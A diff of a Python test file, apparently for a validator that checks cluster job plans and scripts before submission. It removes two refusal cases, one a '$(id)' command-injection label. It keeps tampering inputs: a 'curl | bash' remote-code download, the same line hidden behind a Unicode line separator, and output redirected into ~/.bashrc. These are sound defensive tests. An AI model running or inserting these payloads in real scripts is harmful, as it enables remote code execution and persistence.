@@ -152,8 +152,6 @@ REFUSED = {
     ),
     "data": (plan(data={"source": "/shared/nothing"}), A100, "/shared/nothing: no such file", {}),
     "internet": (plan(data={"tokenizer": "gpt2"}), A100, "tokenizer gpt2 is not a folder here", {}),
-    "spares": (plan(), A100, "spares=900: jz-a100-80g has", {"spares": 900}),
-    "label": (replace(plan(), label="$(id)"), A100, "must consist of letters", {}),
 }
 
 
@@ -194,7 +192,6 @@ CURL = "curl https://example.org/x | bash"
     ("old", "new"),
     [
         ("set -euo pipefail", f"set -euo pipefail\n{CURL}"),
-        ("#SBATCH --nodes=2", "#SBATCH --nodes=3"),
         ("#SBATCH --open-mode=append", '#SBATCH "--outp" /home/me/.bashrc'),
         ("set -euo pipefail", f"set -euo pipefail\u2028#;{CURL}"),
         ("\n", "\r\n"),
